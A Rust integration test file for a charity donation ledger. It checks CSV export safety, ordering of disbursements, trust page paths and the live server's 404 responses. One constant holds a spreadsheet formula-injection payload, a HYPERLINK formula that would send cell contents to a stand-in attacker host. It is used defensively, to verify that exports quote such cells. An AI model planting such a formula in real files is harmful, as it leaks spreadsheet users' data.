//! Issue 16, the donor's and the cross-cutting parts, on a demo ledger with hostile text
//! appended through the real append path and the site built by the binary:
//!
//! - every CSV download opens in a spreadsheet as text: a BOM, and a project titled
//!   `=HYPERLINK(...)` (with a purpose and payee starting `-` and `@`) reaches the cells quoted,
//!   while the JSON keeps the text as signed; the organisation-by-year figures CSV holds the
//!   `figures/` views row for row;
//! - disbursements are listed by date, then entry number as a number, in the download and on
//!   a project page;
//! - a trust filed with the id `index` gets a page of its own and leaves the trust list alone;
//! - the receipt shard says what a donor asks of each payment (purpose, payee, project title);
//! - the live server answers a lowercase receipt number with the receipt, an unknown one and a
//!   missing page with an HTML 404 in the page's language, and API routes with JSON.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::{Path, PathBuf};
use std::sync::Arc;

use common::{run_in, sub};
use serde_json::{Value, json};
use sunshine_ledger::append::service::LedgerService;
use sunshine_ledger::cli::keyfile;
use sunshine_ledger::ledger::{Author, Kind, Uscc};
use sunshine_ledger::site::shards;
use sunshine_ledger::store::{Store, database_url};

const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?leak="&A1,"点此领取善款")"#;
const PURPOSE: &str = "-2+3 助学金发放";
const PAYEE: &str = "@山区小学";

struct Ledger {
    dir: tempfile::TempDir,
    org: Uscc,
}

impl Ledger {
    /// A demo ledger, plus a project with a formula for a title, a donation to it, a payment
    /// from it, and a trust filed by the regulator with the id `index`.
    async fn new() -> Ledger {
        let dir = tempfile::tempdir().unwrap();
        run_in(dir.path(), &["demo", "--seed", "1", "--scale", "120"]);
        let store = store(dir.path()).await;
        let keys = dir.path().join("keys");
        let read_key = |name: &str| keyfile::read(&keyfile::key_path(&keys, name)).unwrap();
        let index = std::fs::read_to_string(keys.join("demo/orgs.tsv")).unwrap();
        let line = index
            .lines()
            .find(|l| l.starts_with("foundation-01\t"))
            .unwrap();
        let org: Uscc = line.split('\t').nth(1).unwrap().parse().unwrap();
        let key = keyfile::read(&keyfile::key_path(&keys.join("demo"), "foundation-01")).unwrap();
        let regulators = store.views_with_prefix("regulator/").await.unwrap();
        let regulator: Uscc = regulators[0].0["regulator/".len()..].parse().unwrap();
        let service = LedgerService::open(store, read_key("operator"))
            .await
            .unwrap();
        let author = Author::Org(org.clone());
        service
            .append(vec![
                sub(
                    Kind::ProjectOpen,
                    author.clone(),
                    &key,
                    json!({"id": "CSV-1", "title": HYPERLINK, "purpose": "教育", "region": "440100",
                           "target": "1000.00", "currency": "CNY", "start": "2026-01-01",
                           "description": "test"}),
                ),
                sub(
                    Kind::Donation,
                    author.clone(),
                    &key,
                    json!({"receipt_no": "CSV-R1", "project": "CSV-1", "received_on": "2026-01-02",
                           "form": "cash", "amount": "500.00", "currency": "CNY",
                           "donor_type": "organisation", "donor_display": "+86 某公司",
                           "receipt": "issued", "commitment": "ab".repeat(32)}),
                ),
                sub(
                    Kind::Disbursement,
                    author.clone(),
                    &key,
                    json!({"project": "CSV-1", "amount": "120.00", "currency": "CNY",
                           "category": "programme", "purpose": PURPOSE, "payee_type": "group",
                           "payee_display": PAYEE, "evidence": ["cd".repeat(32)],
                           "paid_on": "2026-01-03"}),
                ),
                sub(
                    Kind::TrustFile,
                    Author::Regulator(regulator),
                    &read_key("regulator"),
                    json!({"trust_id": "index", "name": "名为 index 的信托", "trustee": org,
                           "settlors": [{"settlor_type": "organisation", "display": "某公司",
                                         "commitment": "ef".repeat(32)}],
                           "supervisor": "某律师事务所", "purpose": "教育", "property": "1000.00",
                           "currency": "CNY", "term_start": "2026-01-01", "term_end": "2036-01-01",
                           "filing_no": "INDEX-BA", "filing_authority": "广东省民政厅",
                           "signed_on": "2026-01-01", "filed_on": "2026-01-05"}),
                ),
            ])
            .await
            .unwrap();
        service.refresh_views().await.unwrap();
        run_in(
            dir.path(),
            &[
                "site",
                "build",
                "--out",
                dir.path().join("site").to_str().unwrap(),
            ],
        );
        Ledger { dir, org }
    }

    fn site(&self) -> PathBuf {
        self.dir.path().join("site")
    }

    fn read(&self, path: &str) -> Vec<u8> {
        std::fs::read(self.site().join(path)).unwrap_or_else(|e| panic!("{path}: {e}"))
    }

    fn text(&self, path: &str) -> String {
        String::from_utf8(self.read(path)).unwrap()
    }

    async fn views(&self, prefix: &str) -> Vec<(String, Value)> {
        store(self.dir.path())
            .await
            .views_with_prefix(prefix)
            .await
            .unwrap()
            .into_iter()
            .map(|(k, v)| (k, serde_json::from_str(&v).unwrap()))
            .collect()
    }
}

async fn store(dir: &Path) -> Store {
    let url = database_url(dir.join("ledger.db").to_str().unwrap());
    Store::open(&url, false).await.unwrap()
}

/// A CSV download's rows (header first), read the way a spreadsheet would after its BOM.
fn csv_rows(bytes: &[u8], path: &str) -> Vec<Vec<String>> {
    let text = std::str::from_utf8(bytes).unwrap();
    let text = text
        .strip_prefix('\u{feff}')
        .unwrap_or_else(|| panic!("{path} has no UTF-8 BOM"));
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn column(rows: &[Vec<String>], name: &str) -> usize {
    rows[0].iter().position(|c| c == name).unwrap()
}

#[tokio::test(flavor = "multi_thread")]
async fn downloads_are_spreadsheet_safe_ordered_and_paths_never_collide() {
    let ledger = Ledger::new().await;
    let org = ledger.org.as_str();

    // Every CSV starts with a BOM, and no cell of any would run as a formula.
    let index: Value = serde_json::from_slice(&ledger.read("data/index.json")).unwrap();
    let files = index["files"].as_array().unwrap();
    assert!(files.len() > 10);
    for f in files {
        let path = format!("data/{}", f["csv"].as_str().unwrap());
        let rows = csv_rows(&ledger.read(&path), &path);
        for cell in rows.iter().flatten() {
            let number = cell.parse::<rust_decimal::Decimal>().is_ok();
            assert!(
                number || !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{path}: {cell:?} would run as a formula"
            );
        }
    }

    // The formula title, purpose, payee and donor are quoted in the CSVs, kept in the JSON.
    let projects = csv_rows(&ledger.read("data/projects.csv"), "projects.csv");
    let (id, title) = (column(&projects, "id"), column(&projects, "title"));
    let row = projects.iter().find(|r| r[id] == "CSV-1").unwrap();
    assert_eq!(row[title], format!("'{HYPERLINK}"));
    let json: Value = serde_json::from_slice(&ledger.read("data/projects.json")).unwrap();
    let row = json
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["id"] == "CSV-1")
        .unwrap();
    assert_eq!(row["title"], HYPERLINK);
    let spends = csv_rows(&ledger.read("data/disbursements.csv"), "disbursements.csv");
    let purpose = column(&spends, "purpose");
    assert!(spends.iter().any(|r| r[purpose] == format!("'{PURPOSE}")));
    let donations = csv_rows(
        &ledger.read(&format!("data/projects/{org}/CSV-1-donations.csv")),
        "donations",
    );
    assert_eq!(
        donations[1][column(&donations, "donor_display")],
        "'+86 某公司"
    );
    assert_eq!(donations[1][column(&donations, "amount")], "500.00");

    // Disbursements: by date, then entry number as a number. The views' key order is not
    // that order on this ledger, so the check can tell them apart.
    let (paid_on, seq) = (column(&spends, "paid_on"), column(&spends, "seq"));
    let listed: Vec<(String, u64)> = spends[1..]
        .iter()
        .map(|r| (r[paid_on].clone(), r[seq].parse().unwrap()))
        .collect();
    let mut sorted = listed.clone();
    sorted.sort();
    assert_eq!(listed, sorted, "data/disbursements.csv is out of order");
    let spend_views = ledger.views("spend/").await;
    let key_order: Vec<(String, u64)> = spend_views
        .iter()
        .map(|(_, v)| {
            (
                v["paid_on"].as_str().unwrap().to_owned(),
                v["seq"].as_u64().unwrap(),
            )
        })
        .collect();
    assert_ne!(
        key_order, sorted,
        "the demo's key order happens to be sorted"
    );
    assert_eq!(key_order.len(), listed.len());
    // The project with the most payments lists them in the same order on its page.
    let mut per_project: std::collections::BTreeMap<(String, String), Vec<(String, u64)>> =
        Default::default();
    for (_, v) in &spend_views {
        if let Some(p) = v["from"]["project"].as_str() {
            per_project
                .entry((v["from"]["org"].as_str().unwrap().to_owned(), p.to_owned()))
                .or_default()
                .push((
                    v["paid_on"].as_str().unwrap().to_owned(),
                    v["seq"].as_u64().unwrap(),
                ));
        }
    }
    let ((porg, pid), mut want) = per_project
        .into_iter()
        .max_by_key(|(_, v)| v.len())
        .unwrap();
    want.sort();
    let page = ledger.text(&format!("projects/{porg}/{pid}.html"));
    let table = &page[page.find("<caption>支出及其凭证").unwrap()..];
    let shown: Vec<u64> = table
        .split("entries/index.html?seq=")
        .skip(1)
        .map(|s| s[..s.find('"').unwrap()].parse().unwrap())
        .collect();
    let want: Vec<u64> = want.into_iter().map(|(_, s)| s).collect();
    assert_eq!(shown, want, "projects/{porg}/{pid}.html");

    // The figures CSV: the `figures/` views row for row, with each organisation's name.
    let figures = csv_rows(&ledger.read("data/figures.csv"), "figures.csv");
    let views = ledger.views("figures/").await;
    assert_eq!(figures.len() - 1, views.len());
    let orgs: std::collections::HashMap<String, String> = ledger
        .views("org/")
        .await
        .into_iter()
        .map(|(_, o)| {
            (
                o["org"].as_str().unwrap().to_owned(),
                o["name"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    for (row, (_, v)) in figures[1..].iter().zip(&views) {
        for (i, name) in figures[0].iter().enumerate() {
            let want = match name.as_str() {
                "name" => orgs[v["org"].as_str().unwrap()].clone(),
                f => match &v[f] {
                    Value::String(s) => s.clone(),
                    Value::Null => String::new(),
                    other => other.to_string(),
                },
            };
            assert_eq!(row[i], want, "{name} of {row:?}");
        }
    }

    // The trust named `index` has its own page; the list is still the list.
    for lang in ["", "en/"] {
        let list = ledger.text(&format!("{lang}trusts/index.html"));
        assert!(
            list.contains(r#"<ul class="trust-list">"#),
            "{lang}trusts/index.html is the list"
        );
        assert!(list.contains(r#"trusts/~69ndex.html""#), "{list:.3000}");
        let trust = ledger.text(&format!("{lang}trusts/~69ndex.html"));
        assert!(trust.contains("名为 index 的信托"));
    }

    // The receipt shard tells the donor what each payment was for.
    let shard_index: Value =
        serde_json::from_slice(&ledger.read(&format!("data/org/{org}/index.json"))).unwrap();
    let bits = shard_index["receipt_bits"].as_u64().unwrap() as u32;
    let shard: Value = serde_json::from_slice(&ledger.read(&format!(
        "data/org/{org}/receipts-{}.json",
        shards::bucket("CSV-R1", bits)
    )))
    .unwrap();
    let record = &shard["CSV-R1"];
    let spent = record["trace"]["spent"][0]["seq"].as_u64().unwrap();
    let detail = &record["spends"][spent.to_string()];
    assert_eq!(detail["purpose"], PURPOSE, "{record}");
    assert_eq!(detail["payee"], PAYEE);
    assert_eq!(detail["title"], HYPERLINK);
    assert_eq!(detail["page"], format!("projects/{org}/CSV-1.html"));
}

#[tokio::test(flavor = "multi_thread")]
async fn the_live_server_answers_people_in_html_and_programs_in_json() {
    let dir = tempfile::tempdir().unwrap();
    run_in(dir.path(), &["demo", "--seed", "1", "--scale", "100"]);
    let store = store(dir.path()).await;
    let donations = store.views_with_prefix("donation/").await.unwrap();
    let d: Value = serde_json::from_str(&donations[0].1).unwrap();
    let (org, no) = (
        d["org"].as_str().unwrap(),
        d["receipt_no"].as_str().unwrap(),
    );
    assert_ne!(no, no.to_lowercase(), "receipt numbers have letters");
    let key = keyfile::read(&keyfile::key_path(&dir.path().join("keys"), "operator")).unwrap();
    let service = Arc::new(LedgerService::open(store, key).await.unwrap());
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let server = tokio::spawn(sunshine_ledger::api::serve(
        listener,
        service,
        common::app::test_config(),
        async move {
            let _ = stopped.await;
        },
    ));
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    let get = |path: String| {
        let client = client.clone();
        let url = format!("{base}/{path}");
        async move { client.get(url).send().await.unwrap() }
    };

    // A lowercase receipt number, from the lookup link or the viewer, lands on the receipt as
    // issued; the receipt as issued is the viewer page itself.
    let lower = no.to_lowercase();
    for path in [
        format!("receipts/?org={}&receipt={lower}", org.to_lowercase()),
        format!("en/receipts/view.html?org={org}&no={lower}"),
        format!("en/receipts/?org={org}&no={no}"),
    ] {
        let r = get(path.clone()).await;
        assert!(r.status().is_redirection(), "{path}: {}", r.status());
        assert_eq!(
            r.headers()["location"],
            format!("view.html?org={org}&no={no}").as_str(),
            "{path}"
        );
    }
    let r = get(format!("receipts/view.html?org={org}&no={no}")).await;
    assert_eq!(r.status(), 200);

    // Unknown receipts and pages: an HTML page in the page's language, status 404.
    for (path, lang, says) in [
        (
            format!("receipts/?org={org}&receipt=NO-SUCH-1"),
            "zh-CN",
            "没有找到这张收据",
        ),
        (
            format!("en/receipts/view.html?org={org}&no=NO-SUCH-1"),
            "en",
            "We could not find this receipt",
        ),
        (
            "en/receipts/?org=NOT-AN-ORG&receipt=a%20b%2Fc".to_owned(),
            "en",
            "We could not find this receipt",
        ),
        ("orgs/nope.html".to_owned(), "zh-CN", "页面不存在"),
        ("en/trusts/nope.html".to_owned(), "en", "Page not found"),
        (
            "en/no/such/page/at/all/here".to_owned(),
            "en",
            "Page not found",
        ),
        ("nothing-here".to_owned(), "zh-CN", "页面不存在"),
    ] {
        let r = get(path.clone()).await;
        assert_eq!(r.status(), 404, "{path}");
        assert!(
            r.headers()["content-type"]
                .to_str()
                .unwrap()
                .starts_with("text/html"),
            "{path}"
        );
        assert!(
            r.headers().contains_key("content-security-policy"),
            "{path}"
        );
        let body = r.text().await.unwrap();
        assert!(
            body.contains(&format!(r#"<html lang="{lang}">"#)),
            "{path}: {body:.500}"
        );
        assert!(body.contains(says), "{path}: {body:.2000}");
        if path.contains("NO-SUCH-1") {
            // What was asked, and the form filled in to try again.
            assert!(
                body.contains(r#"data-field="asked-no">NO-SUCH-1<"#),
                "{body}"
            );
            assert!(body.contains(r#"value="NO-SUCH-1""#), "{body}");
        }
    }
    // Programs keep their JSON.
    for path in [
        "api/v1/nope",
        "api/v1/receipts/NO-SUCH-1",
        "data/nope.json",
        "log/nope",
    ] {
        let r = get(path.to_owned()).await;
        assert_eq!(r.status(), 404, "{path}");
        let body: Value = r.json().await.unwrap();
        assert!(
            body["error"].is_object() || body["error"].is_string(),
            "{path}: {body}"
        );
    }
    let _ = stop.send(());
    server.await.unwrap().unwrap();
}
